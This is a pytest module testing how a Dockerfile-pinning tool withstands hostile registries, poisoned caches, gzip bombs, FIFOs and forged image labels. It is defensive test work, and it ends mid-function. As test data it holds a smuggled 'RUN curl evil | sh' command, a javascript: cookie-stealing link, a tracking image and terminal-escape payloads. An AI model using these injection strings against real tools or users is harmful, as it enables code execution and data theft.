"""Issue #15: hostile answers and inputs end in bounded time and memory, with one line.

One test (or one table of cases) per item of the issue, each driving the real
hooks against a hostile server of ``tests/hostile_servers.py``, a poisoned
cache, or a hostile file, and checking what a user sees: the exit code (3 when
an error prevented a complete answer, 2 for a usage error), exactly one clear
line naming the registry or file, no traceback, and every Dockerfile unchanged
byte for byte unless it was correctly re-pinned.

Where time or memory is at stake, the installed console script runs in a
subprocess under ``RLIMIT_AS`` (:data:`MEMORY_LIMIT`; a normal run needs
under 128 MiB) and a wall-clock bound; these runs are slow to fail, so all
of them start together, once per module (:func:`bounded_runs`), and each
case looks up its own outcome: the module stays well under a minute.

Every case failed against pin-from 0.1 (each was a strict xfail until its fix
landed).
Item 7 (the quadratic ``Maintainers`` pattern) is covered in library tests.
"""
from __future__ import annotations

import json
import os
import re
import resource
import socket
import stat
import subprocess
import sys
import time
import unicodedata
from pathlib import Path
from typing import Callable, Iterator, Mapping, NamedTuple, Sequence

import pytest
from markdown_it import MarkdownIt

from pin_from import check_deprecated_tags
from pin_from import pin
from pin_from.registry import http as registry_module
from tests.faultproxy import Action, FaultProxy, Status
from tests.hostile_servers import (
    LOGIN_PAGE,
    OCI_INDEX,
    Endless,
    GzipBomb,
    TrickleBody,
    TrickleHeaders,
    basic_challenge,
    bearer_challenge,
    config_blob,
    gzip_bomb,
    hostile,
    image_manifest,
    json_bytes,
    login_page,
    serve_image,
    sha256,
)
from tests.registry_server import RegistryServer, push_image

EXIT_CHANGED, EXIT_USAGE, EXIT_ERROR = 1, 2, 3
MEMORY_LIMIT = 512 * 1024 ** 2
TIMEOUT = '1'  # --timeout for bounded-time runs: each request's total deadline derives from it
BOUND = 10.0  # seconds a run against a hostile server may take with --timeout 1
ONE_PLATFORM = (('linux', 'amd64'),)
V2_OK = Status(200, {'Content-Type': 'application/json'}, b'{}')
FORGED = (
    'v2\n\n## Approved by security team\n\n<img src="https://t.example/p.gif?id=1">'
    ' [details](javascript:alert(document.cookie)) @everyone'
)


@pytest.fixture(autouse=True)
def fast_backoff(monkeypatch: pytest.MonkeyPatch) -> None:
    """In-process runs: the same retries, shorter waits (as in faults_test)."""
    monkeypatch.setattr(registry_module, 'RETRY_BACKOFF', 0.01)


class Outcome(NamedTuple):
    rc: int | None  # None: still running at the bound, and killed
    out: str
    err: str
    seconds: float

    @property
    def lines(self) -> list[str]:
        return [line for line in (self.out + self.err).splitlines() if line.strip()]


def messages(outcome: Outcome) -> list[str]:
    """The lines a user reads: argparse's usage block (before its one error line) left out."""
    if outcome.rc != EXIT_USAGE:
        return outcome.lines
    return [line for line in outcome.lines if not line.startswith(('usage:', ' '))]


def assert_one_error(outcome: Outcome, *words: str, rc: int = EXIT_ERROR) -> None:
    """Exit ``rc``, no traceback, and exactly one line, naming every one of ``words``."""
    assert outcome.rc is not None, f'still running after {outcome.seconds:.1f} s; output so far: {outcome.lines}'
    assert 'Traceback' not in outcome.err and 'MemoryError' not in outcome.err, outcome.err[-2000:]
    assert outcome.rc == rc, outcome.lines
    lines = messages(outcome)
    assert len(lines) == 1, lines
    for word in words:
        assert word in lines[0], (word, lines[0])


def write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


def run_main(
        capsys: pytest.CaptureFixture[str], main: Callable[[Sequence[str]], int], argv: Sequence[str | Path],
) -> Outcome:
    """A hook in this process; a usage error's SystemExit becomes its exit code."""
    started = time.monotonic()
    try:
        rc = main([str(a) for a in argv])
    except SystemExit as e:
        rc = e.code if isinstance(e.code, int) else 1
    out, err = capsys.readouterr()
    return Outcome(rc, out, err, time.monotonic() - started)


# --- bounded runs: console scripts in subprocesses, all started together ----------------

def isolated_env(root: Path, bin_dir: Path | None = None) -> dict[str, str]:
    """A from-scratch environment: empty caches and configs under ``root``, no real credentials."""
    env = {'PATH': os.environ['PATH'], 'LANG': 'C.UTF-8', 'PYTHONDONTWRITEBYTECODE': '1'}
    if bin_dir is not None:
        env['PATH'] = f'{bin_dir}{os.pathsep}{env["PATH"]}'
    for var, name in (
            ('PIN_FROM_CACHE_DIR', 'cache'), ('XDG_CACHE_HOME', 'xdg-cache'), ('XDG_CONFIG_HOME', 'xdg-config'),
            ('XDG_RUNTIME_DIR', 'xdg-runtime'), ('HOME', 'home'), ('DOCKER_CONFIG', 'docker-config'),
    ):
        (root / name).mkdir(parents=True, exist_ok=True)
        env[var] = str(root / name)
    return env


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


def script(name: str) -> str:
    path = Path(sys.executable).parent / name
    assert path.exists(), f'{name} is not installed next to {sys.executable} (pip install -e .)'
    return str(path)


class Scenario(NamedTuple):
    """One bounded run: argv, its environment, the Dockerfile it must leave alone."""

    argv: list[str]
    env: dict[str, str]
    dockerfile: Path
    original: bytes  # what the Dockerfile held before the run
    words: tuple[str, ...]  # the one error line names each
    bound: float = BOUND
    rc: int = EXIT_ERROR


def run_bounded(scenario: Scenario) -> Outcome:
    """One console-script run under the memory limit, killed at its bound."""
    started = time.monotonic()
    proc = subprocess.Popen(
        scenario.argv, env=scenario.env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
        stderr=subprocess.PIPE, preexec_fn=_limit_memory, text=True, errors='replace',
    )
    try:
        out, err = proc.communicate(timeout=scenario.bound)
        rc: int | None = proc.returncode
    except subprocess.TimeoutExpired:
        proc.kill()
        out, err = proc.communicate()
        rc = None
    return Outcome(rc, out, err, time.monotonic() - started)


def run_all(scenarios: dict[str, Scenario]) -> dict[str, Outcome]:
    """Every scenario at once (they mostly wait), each killed at its own bound."""
    from concurrent.futures import ThreadPoolExecutor
    with ThreadPoolExecutor(max_workers=len(scenarios)) as pool:
        return dict(zip(scenarios, pool.map(run_bounded, scenarios.values())))


def _dockerfile(directory: Path, text: str) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    return write(directory / 'Dockerfile', text.encode())


def _pin(path: Path) -> list[str]:
    return [script('pin-from'), '--timeout', TIMEOUT, str(path)]


def _check(path: Path, server: FaultProxy) -> list[str]:
    return [
        script('check-deprecated-tags'), '--timeout', TIMEOUT, '--library-url', f'{server.url}/library/',
        '--docs-url', f'{server.url}/docs/', str(path),
    ]


def _registry(directory: Path, server: FaultProxy, *rules: tuple[Action, str], bound: float = BOUND) -> Scenario:
    """pin-from on ``FROM <server>/team/app:1`` with ``rules`` (action, path) scripted."""
    for action, path in rules:
        server.add(action, path=path)
    env = isolated_env(directory)
    dockerfile = _dockerfile(directory, f'FROM {server.host}/team/app:1\n')
    return Scenario(_pin(dockerfile), env, dockerfile, dockerfile.read_bytes(), (str(dockerfile), server.host), bound)


def _library(directory: Path, server: FaultProxy, action: Action) -> Scenario:
    """check-deprecated-tags on ``FROM python:3.12`` with ``action`` answering library/python."""
    server.add(action, path='^/library/python$')
    env = isolated_env(directory)
    dockerfile = _dockerfile(directory, 'FROM python:3.12\n')
    # An unreachable library is one line for the run (with the cause and the ways out), not one per file.
    return Scenario(
        _check(dockerfile, server), env, dockerfile, dockerfile.read_bytes(), ('library/python', server.host),
    )


def _local_library(directory: Path, target: Callable[[Path], Path]) -> Scenario:
    """check-deprecated-tags with a local library dir whose ``python`` is a symlink to ``target``."""
    (directory / 'library').mkdir(parents=True)
    (directory / 'library' / 'busybox').write_text(BUSYBOX_LIBRARY)  # a real library dir, but for python
    (directory / 'library' / 'python').symlink_to(target(directory))
    env = isolated_env(directory)
    dockerfile = _dockerfile(directory, 'FROM python:3.12\n')
    argv = [
        script('check-deprecated-tags'), '--library-url', str(directory / 'library'),
        '--docs-url', str(directory / 'library'), str(dockerfile),
    ]
    return Scenario(argv, env, dockerfile, dockerfile.read_bytes(), (str(dockerfile), 'python'), 5.0)


BUSYBOX_LIBRARY = (
    'Maintainers: Tianon Gravi <admwiggin@gmail.com> (@tianon)\n'
    'GitRepo: https://github.com/docker-library/busybox.git\n\n'
    'Tags: 1.37.0-glibc, 1.37-glibc\nGitCommit: ' + 'a' * 40 + '\nDirectory: latest/glibc/amd64\n'
)


def _fifo(directory: Path, name: str = 'fifo') -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    os.mkfifo(directory / name)
    return directory / name


def _dev_zero(directory: Path) -> Path:
    """/dev/zero under a Dockerfile's name (a file of no known kind is never read)."""
    directory.mkdir(parents=True, exist_ok=True)
    (directory / 'zero.Dockerfile').symlink_to('/dev/zero')
    return directory / 'zero.Dockerfile'


def _file_argument(directory: Path, hook: str, path: Path, bound: float) -> Scenario:
    """A hook given ``path`` (a FIFO, /dev/zero) as its file; a real Dockerfile must stay as it is."""
    env = isolated_env(directory)
    dockerfile = _dockerfile(directory, 'FROM 127.0.0.1:9/team/app:1@sha256:' + 'a' * 64 + '\n')
    argv = [script(hook), str(path), str(dockerfile)]
    if hook == 'check-deprecated-tags':
        (directory / 'library').mkdir(exist_ok=True)
        (directory / 'library' / 'busybox').write_text(BUSYBOX_LIBRARY)
        argv[1:1] = ['--library-url', str(directory / 'library'), '--docs-url', str(directory)]
    return Scenario(argv, env, dockerfile, dockerfile.read_bytes(), (str(path),), bound)


def _credential_flood(directory: Path, server: FaultProxy) -> Scenario:
    """A credsStore helper that prints forever, asked because the registry wants Basic auth."""
    bin_dir = directory / 'bin'
    bin_dir.mkdir(parents=True)
    helper = bin_dir / 'docker-credential-flood'
    helper.write_text('#!/bin/sh\nexec yes "flood flood flood flood flood flood flood flood"\n')
    helper.chmod(0o755)
    scenario = _registry(directory, server, (basic_challenge(), '^/v2/'), bound=15.0)
    env = isolated_env(directory, bin_dir)
    Path(env['DOCKER_CONFIG'], 'config.json').write_text(json.dumps({'credsStore': 'flood'}))
    return scenario._replace(env=env, words=(*scenario.words, 'docker-credential-flood'))


@pytest.fixture(scope='module')
def bounded_runs(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, tuple[Scenario, Outcome]]]:
    """Every bounded-time/memory scenario, run together once: name -> (scenario, outcome)."""
    root = tmp_path_factory.mktemp('bounded')
    names = (
        'registry-headers', 'registry-body', 'token-headers', 'library-body', 'retry-after',
        'token-endless', 'token-gzip-bomb', 'manifest-gzip-bomb', 'library-endless', 'credential-flood',
    )
    gzip_bomb()  # built once, before any client waits on it
    servers = {name: hostile().start() for name in names}
    try:
        s = servers
        scenarios = {
            # item 3: --timeout bounds each read, not a request
            'registry-headers': _registry(root / 'a', s['registry-headers'], (V2_OK, '^/v2/$'),
                                          (TrickleHeaders(interval=0.3), '/manifests/')),
            'registry-body': _registry(root / 'b', s['registry-body'], (V2_OK, '^/v2/$'),
                                       (TrickleBody(interval=0.3), '/manifests/')),
            'token-headers': _registry(root / 'c', s['token-headers'], (bearer_challenge(s['token-headers']), '^/v2/$'),
                                       (TrickleHeaders(interval=0.3), '^/token')),
            # a library that times out is unreachable: the shipped snapshot answers (python:3.12 is
            # supported there), and the one line is the note that says so
            'library-body': _library(
                root / 'd', s['library-body'], TrickleBody({'Content-Type': 'text/plain'}, 0.3))._replace(rc=0),
            # item 4: Retry-After honoured on each retry
            'retry-after': _registry(root / 'e', s['retry-after'], (V2_OK, '^/v2/$'),
                                     (Status(429, {'Retry-After': '60'}), '/manifests/'), bound=15.0),
            # item 5: FIFOs block
            'fifo-dockerfile': _file_argument(root / 'f', 'pin-from', _fifo(root / 'f' / 'x', 'Dockerfile'), 5.0),
            'fifo-dockerfile-check': _file_argument(root / 'g', 'check-deprecated-tags', _fifo(root / 'g' / 'x', 'Dockerfile'), 5.0),
            'fifo-library': _local_library(root / 'h', lambda d: _fifo(d / 'x')),
            # item 6: unbounded memory
            'token-endless': _registry(root / 'i', s['token-endless'], (bearer_challenge(s['token-endless']), '^/v2/$'),
                                       (Endless(), '^/token'), bound=15.0),
            'token-gzip-bomb': _registry(root / 'j', s['token-gzip-bomb'],
                                         (bearer_challenge(s['token-gzip-bomb']), '^/v2/$'), (GzipBomb(), '^/token'),
                                         bound=15.0),
            'manifest-gzip-bomb': _registry(root / 'k', s['manifest-gzip-bomb'], (V2_OK, '^/v2/$'),
                                            (GzipBomb(), '/manifests/'), bound=15.0),
            'library-endless': _library(root / 'l', s['library-endless'],
                                        Endless({'Content-Type': 'text/plain'}, b'Maintainers: x\n', b' ' * 65536)),
            'library-dev-zero': _local_library(root / 'm', lambda d: Path('/dev/zero')),
            'dockerfile-dev-zero': _file_argument(root / 'n', 'pin-from', _dev_zero(root / 'n' / 'x'), 15.0),
            'credential-flood': _credential_flood(root / 'o', s['credential-flood']),
        }
        outcomes = run_all(scenarios)
        yield {name: (scenarios[name], outcomes[name]) for name in scenarios}
    finally:
        for server in servers.values():
            server.stop()


def check_bounded(bounded_runs: dict[str, tuple[Scenario, Outcome]], name: str) -> None:
    scenario, outcome = bounded_runs[name]
    assert_one_error(outcome, *scenario.words, rc=scenario.rc)
    assert scenario.dockerfile.read_bytes() == scenario.original


# --- 1. a login page pinned as a digest ---------------------------------------------------

def test_1_a_login_page_is_never_pinned(tmp_path, capsys):
    path = write(tmp_path / 'Dockerfile', b'FROM python:3.12\n')
    cache = tmp_path / 'cache'
    with hostile() as server:
        server.add(V2_OK, path='^/v2/$').add(login_page(), path='/manifests/')
        outcome = run_main(capsys, pin.main, [
            '--cache-dir', cache, '--registry-mirror', f'docker.io=http://{server.host}', path,
        ])
        assert server.seen('/manifests/')  # the lookup reached the login page
    assert_one_error(outcome, str(path), server.host, 'text/html')
    assert path.read_bytes() == b'FROM python:3.12\n'
    cached = b''.join(p.read_bytes() for p in cache.glob('*.json'))
    assert sha256(LOGIN_PAGE).encode() not in cached


# --- 2. a poisoned cache ------------------------------------------------------------------

def tags_json(cache: Path, key: str, value: str, stored_at: str) -> None:
    """tags.json as pin_from.registry.cache writes it, with ``stored_at`` as raw JSON text (1e400, NaN)."""
    cache.mkdir(parents=True, exist_ok=True)
    entry = f'[{json.dumps(value)},{stored_at}]'
    (cache / 'tags.json').write_text(f'{{"version":1,"entries":{{{json.dumps(key)}:{entry}}}}}')


def test_2_a_poisoned_cached_digest_never_reaches_a_file(tmp_path, capsys):
    original = b'FROM python:3.12\nCOPY . /app\n'
    path = write(tmp_path / 'Dockerfile', original)
    cache = tmp_path / 'cache'
    tags_json(cache, 'tag:docker.io/library/python:3.12', 'sha256:NOT-A-DIGEST\nRUN curl evil | sh', str(time.time()))

    outcome = run_main(capsys, pin.main, ['--offline', '--cache-dir', cache, path])

    assert path.read_bytes() == original
    assert '\nRUN curl' not in outcome.out + outcome.err
    assert outcome.rc == EXIT_ERROR  # offline, and the only cached answer is no answer
    assert 'cache' in outcome.err.lower()  # the note: a bad entry was dropped
    assert [line for line in outcome.out.splitlines() if line.startswith(str(path))] == [
        line for line in outcome.out.splitlines() if line.strip()
    ]


@pytest.mark.parametrize('stored_at', ('1e400', 'NaN', '-1e400'))
def test_2_a_cache_time_that_is_not_finite_is_a_miss(tmp_path, capsys, registry, unique_repo, stored_at):
    digest = push_image(registry.url, unique_repo, 'v1', platforms=ONE_PLATFORM)
    path = write(tmp_path / 'Dockerfile', f'FROM {registry.host}/{unique_repo}:v1\n'.encode())
    cache = tmp_path / 'cache'
    tags_json(cache, f'tag:{registry.host}/{unique_repo}:v1', 'sha256:' + 'e' * 64, stored_at)

    outcome = run_main(capsys, pin.main, ['--cache-dir', cache, path])

    assert path.read_text() == f'FROM {registry.host}/{unique_repo}:v1@{digest}\n'
    assert outcome.rc == EXIT_CHANGED
    if stored_at != '-1e400':
        assert 'cache' in outcome.err.lower()  # a note that a bad entry was dropped


# --- 3, 4, 5, 6: bounded time and memory ----------------------------------------------------

@pytest.mark.parametrize('name', (
    'registry-headers',
    'registry-body',
    'token-headers',
    'library-body',
))
def test_3_a_trickling_server_ends_in_bounded_time(bounded_runs, name):
    check_bounded(bounded_runs, name)


def test_4_retry_after_is_capped_per_request_and_said(bounded_runs):
    check_bounded(bounded_runs, 'retry-after')
    scenario, outcome = bounded_runs['retry-after']
    line = outcome.lines[0]
    for word in scenario.words:
        line = line.replace(word, '')
    assert re.search(r'\b60\b', line), line  # says what the registry asked for


@pytest.mark.parametrize('name', (
    'fifo-dockerfile',
    'fifo-dockerfile-check',
    'fifo-library',
))
def test_5_only_regular_files_are_read(bounded_runs, name):
    check_bounded(bounded_runs, name)


@pytest.mark.parametrize('name', (
    'token-endless',
    'token-gzip-bomb',
    'manifest-gzip-bomb',
    'library-endless',
    'library-dev-zero',
    'dockerfile-dev-zero',
    'credential-flood',
))
def test_6_every_body_is_capped(bounded_runs, name):
    check_bounded(bounded_runs, name)


# --- 8. malformed manifests that match their digest ---------------------------------------

_LAYER = {'mediaType': 'application/vnd.oci.image.layer.v1.tar+gzip', 'digest': sha256(b'layer')}
_CONFIG = config_blob()
_LIST_LABELS = config_blob(labels=['x'])
MALFORMED = {  # name: (top manifest, its media type, more manifests, blobs)
    'manifests-of-strings': (json_bytes({'schemaVersion': 2, 'mediaType': OCI_INDEX, 'manifests': ['x']}), OCI_INDEX, ()),
    'manifests-a-number': (json_bytes({'schemaVersion': 2, 'mediaType': OCI_INDEX, 'manifests': 5}), OCI_INDEX, ()),
    'layer-size-a-word': (image_manifest(_CONFIG, layers=[{**_LAYER, 'size': 'big'}]), None, (_CONFIG,)),
    'layer-size-null': (image_manifest(_CONFIG, layers=[{**_LAYER, 'size': None}]), None, (_CONFIG,)),
    'config-a-string': (image_manifest(_CONFIG, config_field='str'), None, (_CONFIG,)),
    'labels-a-list': (image_manifest(_LIST_LABELS), None, (_LIST_LABELS,)),
    'body-a-list': (b'[1,2,3]', None, ()),
}


@pytest.fixture
def moved(registry: RegistryServer, repo_factory: Callable[[], str]) -> Callable[..., tuple[str, str, str]]:
    """Push ``repo:v1`` twice (the tag moves): (repo, old digest, new digest)."""
    def make(labels: Mapping[str, str] | None = None, env: Mapping[str, str] | None = None) -> tuple[str, str, str]:
        repo = repo_factory()
        old = push_image(registry.url, repo, 'v1', platforms=ONE_PLATFORM, seed='old')
        new = push_image(registry.url, repo, 'v1', platforms=ONE_PLATFORM, seed='new', labels=labels, env=env)
        return repo, old, new
    return make


@pytest.mark.parametrize('name', [
    pytest.param(name) for name in MALFORMED
])
def test_8_a_malformed_image_is_one_line_and_the_run_completes(tmp_path, capsys, registry, moved, name):
    repo, old, new = moved()
    top, media_type, blobs = MALFORMED[name]
    with hostile(registry.host) as proxy:  # the real registry behind, team/bad scripted
        serve_image(proxy, 'team/bad', '1', top, media_type=media_type or 'application/vnd.oci.image.manifest.v1+json',
                    blobs=blobs)
        good = write(tmp_path / 'good.Dockerfile', f'FROM {proxy.host}/{repo}:v1@{old}\n'.encode())
        bad_text = f'FROM {proxy.host}/team/bad:1@sha256:{"0" * 64}\n'.encode()
        bad = write(tmp_path / 'bad.Dockerfile', bad_text)
        report = tmp_path / 'report.md'
        outcome = run_main(capsys, pin.main, [
            '--cache-dir', tmp_path / 'cache', '--update', '--report', report, good, bad,
        ])
    assert 'Traceback' not in outcome.err
    assert good.read_text() == f'FROM {proxy.host}/{repo}:v1@{new}\n'  # the image that moved correctly
    assert bad.read_bytes() == bad_text  # only validated data reaches a file
    assert outcome.rc == EXIT_ERROR
    errors = [line for line in outcome.lines if 'team/bad' in line]
    assert len(errors) == 1 and str(bad) in errors[0] and proxy.host in errors[0], outcome.lines
    assert new in report.read_text()


# --- 9. the report path ---------------------------------------------------------------------

@pytest.mark.parametrize('where', ('missing-dir', 'a-directory', 'read-only', 'full-disk'))
def test_9_an_unwritable_report_is_one_line_and_no_traceback(tmp_path, capsys, registry, moved, where):
    if where == 'read-only' and os.geteuid() == 0:
        pytest.skip('root writes read-only files')
    report = {
        'missing-dir': tmp_path / 'missing' / 'report.md', 'a-directory': tmp_path,
        'read-only': tmp_path / 'report.md', 'full-disk': Path('/dev/full'),
    }[where]
    if where == 'read-only':
        report.write_text('')
        report.chmod(stat.S_IRUSR)
    repo, old, new = moved()
    original = f'FROM {registry.host}/{repo}:v1@{old}\n'.encode()
    path = write(tmp_path / 'Dockerfile', original)

    outcome = run_main(capsys, pin.main, ['--cache-dir', tmp_path / 'cache', '--update', '--report', report, path])

    assert 'Traceback' not in outcome.err
    # A path that cannot take a report is a usage error, found before any file is touched;
    # a full disk is found only when writing: an error (3), after the files were re-pinned.
    assert outcome.rc == (EXIT_ERROR if where == 'full-disk' else EXIT_USAGE)
    assert [line for line in outcome.lines if str(report) in line], outcome.lines
    if where == 'full-disk':  # a device is written in place, never replaced by a file
        assert stat.S_ISCHR(os.stat('/dev/full').st_mode)
    if where != 'full-disk':  # the path is checked before any file is touched
        assert_one_error(outcome, str(report), rc=EXIT_USAGE)
        assert path.read_bytes() == original


# --- 10. option values ------------------------------------------------------------------------

OPTION_CASES = [
    ('pin-from', ['--timeout', '0']), ('pin-from', ['--timeout', '-1']),
    ('pin-from', ['--timeout', 'nan']), ('pin-from', ['--timeout', 'inf']),
    ('pin-from', ['--jobs', '0']), ('pin-from', ['--jobs', '-3']),
    ('pin-from', ['--cache-ttl', 'nan']), ('pin-from', ['--cache-ttl', '-1']),
    ('pin-from', ['--registry-mirror', '127.0.0.1:9=http://[::1']),
    ('pin-from', ['--insecure-registry', 'http://host']),
    ('check-deprecated-tags', ['--library-ttl', '-1']), ('check-deprecated-tags', ['--timeout', 'nan']),
]


@pytest.mark.parametrize(('hook', 'options'), [
    pytest.param(hook, options, id=f'{hook} {" ".join(options)}')
    for hook, options in OPTION_CASES
])
def test_10_bad_option_values_are_usage_errors(tmp_path, capsys, hook, options):
    # Loopback port 9 (nothing listens) for pin-from, a local library dir for check-deprecated-tags:
    # whatever happens to an option, nothing leaves the machine.
    original = b'FROM 127.0.0.1:9/team/app:1\n' if hook == 'pin-from' else b'FROM python:3.12\n'
    path = write(tmp_path / 'Dockerfile', original)
    main = pin.main if hook == 'pin-from' else check_deprecated_tags.main
    local = ['--library-url', tmp_path, '--docs-url', tmp_path] if hook != 'pin-from' else []
    outcome = run_main(capsys, main, ['--cache-dir', tmp_path / 'cache', *local, *options, path])
    assert_one_error(outcome, options[0], rc=EXIT_USAGE)
    assert outcome.out == ''
    assert path.read_bytes() == original


# --- 11, 12. output that can be abused ------------------------------------------------------

def forged_move(registry: RegistryServer, moved: Callable[..., tuple[str, str, str]], tmp_path: Path) -> tuple[Path, str]:
    """A pinned Dockerfile whose tag moved to an image with forged labels and env values."""
    repo, old, new = moved(
        labels={'org.example.note': FORGED, 'org.example.long': 'A' * 5000, 'org.example.title': '\x1b]0;pwned\x07'},
        env={'PATH': '/bin', 'NOTE': FORGED + ' `` ` | \x1b[2J'},
    )
    return write(tmp_path / 'Dockerfile', f'FROM {registry.host}/{repo}:v1@{old}\n'.encode()), new


def outside_code(html: str) -> str:
    return re.sub(r'<code>.*?</code>', '', html, flags=re.S)


def test_11_the_report_shows_image_values_inertly(tmp_path, capsys, registry, moved):
    path, new = forged_move(registry, moved, tmp_path)
    report = tmp_path / 'report.md'

    outcome = run_main(capsys, pin.main, ['--cache-dir', tmp_path / 'cache', '--update', '--report', report, path])

    assert outcome.rc == EXIT_CHANGED and new in path.read_text()
    text = report.read_text()
    html = MarkdownIt('commonmark').enable('table').render(text)
    assert 'Approved by security team</h' not in html  # no forged heading
    assert '<img' not in html and 'href="javascript:' not in html
    assert '@everyone' not in outside_code(html)  # a mention only ever inside code
    assert 'everyone' in html
    assert 'A' * 1000 not in text  # each value is capped
    assert '\x1b' not in text and '\x07' not in text


def test_12_the_update_summary_escapes_control_characters(tmp_path, capsys, registry, moved):
    path, _ = forged_move(registry, moved, tmp_path)

    outcome = run_main(capsys, pin.main, ['--cache-dir', tmp_path / 'cache', '--update', '--check', path])

    assert outcome.rc == EXIT_CHANGED
    assert not re.search(r'[\x00-\x08\x0b-\x1f\x7f]', outcome.out + outcome.err)
    assert '\\x1b' in outcome.out
    assert not [line for line in outcome.out.splitlines() if line.lstrip().startswith('## Approved')]


@pytest.mark.parametrize('hook', ('pin-from', 'check-deprecated-tags'))
@pytest.mark.parametrize('where', ('dockerfile', 'file-name'))
def test_12_control_characters_from_files_are_escaped(tmp_path, capsys, hook, where):
    if where == 'dockerfile':
        path = write(tmp_path / 'Dockerfile', b'FROM \x1b]0;pwned\x07python:3\nFROM \x1b[2J\xe2\x80\xaeabc\n')
    else:
        path = tmp_path / 'Docker\x1b[2J\x1b]0;pwned\x07file'  # does not exist: an error names it
    main = pin.main if hook == 'pin-from' else check_deprecated_tags.main
    library = tmp_path / 'library'
    library.mkdir()
    (library / 'busybox').write_text(BUSYBOX_LIBRARY)
    local = ['--library-url', library, '--docs-url', tmp_path] if hook != 'pin-from' else ['--offline']

    outcome = run_main(capsys, main, ['--cache-dir', tmp_path / 'cache', *local, path])

    assert outcome.rc not in (0, EXIT_USAGE)
    shown = outcome.out + outcome.err
    assert not re.search('[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]', shown), repr(shown)
    assert '\\x1b' in shown


# --- 13. plain-HTTP mirrors ------------------------------------------------------------------

@pytest.fixture
def lookups(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """Host names this process asks the resolver for (none is answered: nothing leaves)."""
    asked: list[str] = []

    def getaddrinfo(host, *args, **kwargs):
        asked.append(host.decode() if isinstance(host, bytes) else str(host))
        raise socket.gaierror(socket.EAI_NONAME, 'hostile_test: no resolver')

    monkeypatch.setattr(socket, 'getaddrinfo', getaddrinfo)
    return asked


def test_13_a_plain_http_mirror_needs_insecure_registry(tmp_path, capsys, lookups):
    original = b'FROM python:3.12\n'
    path = write(tmp_path / 'Dockerfile', original)

    outcome = run_main(capsys, pin.main, [
        '--cache-dir', tmp_path / 'cache', '--registry-mirror', 'docker.io=http://mirror.invalid', path,
    ])

    assert lookups == []  # no request at all
    assert outcome.rc in (EXIT_USAGE, EXIT_ERROR)
    assert_one_error(outcome, 'mirror.invalid', '--insecure-registry', rc=outcome.rc)
    assert path.read_bytes() == original


def test_13_with_insecure_registry_the_mirror_is_asked(tmp_path, capsys, lookups):
    """The control case: the sensor sees a lookup when the mirror is allowed."""
    path = write(tmp_path / 'Dockerfile', b'FROM python:3.12\n')
    outcome = run_main(capsys, pin.main, [
        '--cache-dir', tmp_path / 'cache', '--registry-mirror', 'docker.io=http://mirror.invalid',
        '--insecure-registry', 'mirror.invalid', path,
    ])
    assert set(lookups) == {'mirror.invalid'}
    assert outcome.rc != 0 and 'mirror.invalid' in outcome.out


INVISIBLE = 'open\u200dssl \u200b\u200e\u200f\u061c\u2066x\u2069 \U000e0041\U000e007f \u00ad\ufeff'


def test_12_invisible_format_characters_are_escaped_in_the_report_and_the_terminal(
        tmp_path, capsys, registry, moved):
    """Zero-width joiners, LRM/RLM, U+061C, isolates and tag characters (Unicode Cf) render as nothing:
    'open<ZWJ>ssl' would read as 'openssl'. Issue 18, item 10."""
    repo, old, new = moved(labels={'org.example.note': INVISIBLE}, env={'PATH': '/bin', 'PKG': INVISIBLE})
    path = write(tmp_path / 'Dockerfile', f'FROM {registry.host}/{repo}:v1@{old}\n'.encode())
    report = tmp_path / 'report.md'

    outcome = run_main(capsys, pin.main, ['--cache-dir', tmp_path / 'cache', '--update', '-v', '--report', report, path])

    assert outcome.rc == EXIT_CHANGED
    for shown in (report.read_text(), outcome.out + outcome.err):
        assert not [c for c in shown if unicodedata.category(c) == 'Cf'], repr(shown)
    assert 'open\\u200dssl' in report.read_text()
    assert '\\U000e0041' in report.read_text()


# --- 16. --verify behind a proxy that answers 200 to anything (issue 18) -----------------------

@pytest.mark.parametrize('answer', ('login-page', 'no-digest-header', 'wrong-digest-header'))
def test_16_verify_believes_only_a_manifest_with_its_digest(tmp_path, capsys, answer):
    digest = 'sha256:' + 'e' * 64  # exists nowhere
    headers = {
        'login-page': {'Content-Type': 'text/html'},
        'no-digest-header': {'Content-Type': 'application/vnd.oci.image.index.v1+json'},
        'wrong-digest-header': {'Content-Type': 'application/vnd.oci.image.index.v1+json',
                                'Docker-Content-Digest': 'sha256:' + 'f' * 64},
    }[answer]
    path = write(tmp_path / 'Dockerfile', f'FROM reg.example/team/app@{digest}\n'.encode())
    with hostile() as server:
        server.add(V2_OK, path='^/v2/$').add(Status(200, headers, LOGIN_PAGE), path='/manifests/')
        path.write_text(f'FROM {server.host}/team/app@{digest}\n')
        args = ['--cache-dir', tmp_path / 'cache', '--insecure-registry', server.host, '--verify', '--check', path]
        first = run_main(capsys, pin.main, args)
        second = run_main(capsys, pin.main, args)
    for outcome in (first, second):  # never "exists", and never cached as such
        assert outcome.rc == EXIT_ERROR, outcome
        assert 'exists' not in outcome.out
        assert_one_error(outcome, str(path), server.host)


# --- 4 (issue 18). a YAML file of millions of nodes -----------------------------------------

@pytest.mark.parametrize('kind', ('compose.yaml', 'deployment.yaml'))
def test_18_4_a_yaml_file_of_millions_of_nodes_is_one_line_in_bounded_memory(tmp_path, kind):
    """8 MiB of ``x: [a,a,a,...]`` (4 million scalars) ended in MemoryError: its node graph needs gigabytes."""
    head = 'apiVersion: v1\nkind: Pod\nimage: x\n' if kind == 'deployment.yaml' else ''
    text = (head + 'x: [' + ','.join(['a'] * 4_000_000) + ']\n').encode()
    path = write(tmp_path / kind, text)
    argv = [script('pin-from'), '--offline', '-v', str(path)]
    outcome = run_bounded(Scenario(argv, isolated_env(tmp_path / 'env'), path, text, (str(path),), 60.0))
    assert path.read_bytes() == text
    if kind == 'compose.yaml':
        assert_one_error(outcome, str(path), 'more than 1,000,000 YAML nodes')
    else:  # a plain .yaml file is only said with -v: it may not be Kubernetes at all
        assert outcome.rc == 0 and 'Traceback' not in outcome.err, outcome
        assert 'more than 1,000,000 YAML nodes' in outcome.out + outcome.err


def test_18_minor_the_body_cap_is_said_in_the_unit_the_readme_uses():
